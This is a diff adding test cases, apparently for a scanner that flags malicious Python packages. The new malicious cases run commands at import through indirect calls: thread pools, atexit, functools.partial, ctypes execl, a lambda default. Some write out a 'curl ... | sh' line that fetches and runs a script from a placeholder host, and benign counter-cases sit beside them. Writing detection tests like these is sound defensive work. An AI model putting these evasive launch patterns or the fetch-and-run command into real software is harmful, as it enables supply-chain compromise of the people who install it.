@@ -107,6 +107,35 @@ CASES = [
         "b'curl -s https://r.x.invalid/i.sh | sh'], [b'/bin/sh'], True, (), None, None, "
         "-1, -1, -1, -1, -1, -1, *os.pipe(), False, False, 0, None, None, None, -1, None, "
         "False)\n"), "malicious", ("PV302",)),
+    # a process function handed, with its command, to code that calls it
+    _wheel("os.system handed to a thread pool's submit with a split command", "submitsys",
+           _init("submitsys", "import os\nfrom concurrent.futures import ThreadPoolExecutor\n"
+                              f"ThreadPoolExecutor(1).submit(os.system, {SPLIT_RUN})\n"),
+           "malicious", ("PV302",)),
+    _wheel("Thread(target=os.system, args=(cmd,))", "threadsys", _init(
+        "threadsys", "import os, threading\n"
+                     f"threading.Thread(target=os.system, args=({SPLIT_RUN},)).start()\n"),
+        "malicious", ("PV302",)),
+    _wheel("functools.partial(os.system, cmd)() and threading.Timer(t, os.system, [cmd])",
+           "partialsys", _init("partialsys", (
+               "import functools, os, threading\n"
+               f"functools.partial(os.system, {SPLIT_RUN})()\n"
+               f"threading.Timer(1.0, os.system, [{SPLIT_RUN}]).start()\n")),
+           "malicious", ("PV302",)),
+    _wheel("map(os.system, [cmd]) and atexit.register(os.system, cmd)", "mapsys", _init(
+        "mapsys", f"import atexit, os\nlist(map(os.system, [{SPLIT_RUN}]))\n"
+                  f"atexit.register(os.system, {SPLIT_RUN})\n"), "malicious", ("PV302",)),
+    _wheel("os.spawnlp with the command after the program", "spawnlp", _init(
+        "spawnlp", f"import os\nos.spawnlp(os.P_NOWAIT, 'sh', 'sh', '-c', {SPLIT_RUN})\n"),
+        "malicious", ("PV302",)),
+    _wheel("libc execl through ctypes", "libcexecl", _init(
+        "libcexecl", "import ctypes\n_l = ctypes.CDLL('libc.so.6')\n"
+                     "_l.execl(b'/bin/sh', b'sh', b'-c', b'c' + b'url -s https://r.x.invalid/i.sh"
+                     " | sh', None)\n"), "malicious", ("PV302",)),
+    _wheel("a lambda's default argument runs the command when the lambda is made",
+           "lambdadefault", _init(
+               "lambdadefault", f"import os\n_f = lambda x=os.system({SPLIT_RUN}): x\n"),
+           "malicious", ("PV302",)),
     # methods that syntax calls
     _wheel("__class_getitem__ runs when the class is subscripted at import", "clsgetitem",
            _init("clsgetitem", (
@@ -224,6 +253,15 @@ CASES = [
         "gitdescribe", "import subprocess\n\ntry:\n    __version__ = subprocess.check_output("
                        "['git', 'describe'] + ['--tags'], text=True).strip()\n"
                        "except Exception:\n    __version__ = '0' + '.0'\n"), "benign"),
+    _wheel("terminal restored by atexit.register(os.system, 'stty sane'); git status run "
+           "through a pool when the user asks", "ttyrestore", _init(
+               "ttyrestore", "import atexit, os, subprocess\n"
+                             "from concurrent.futures import ThreadPoolExecutor\n\n"
+                             "atexit.register(os.system, 'stty sane')\n\n\n"
+                             "def statuses(repos):\n"
+                             "    with ThreadPoolExecutor(4) as pool:\n"
+                             "        return list(pool.map(subprocess.check_output, "
+                             "[['git', '-C', r, 'status'] for r in repos]))\n"), "benign"),
     _wheel("getattr on subprocess and os for optional names", "getattrspawn", _init(
         "getattrspawn", "import os, subprocess\n\n_run = getattr(subprocess, 'run')\n"
                         "MODE = getattr(os, 'O_BINARY', 0)\n\n\ndef compile_docs(src):\n"
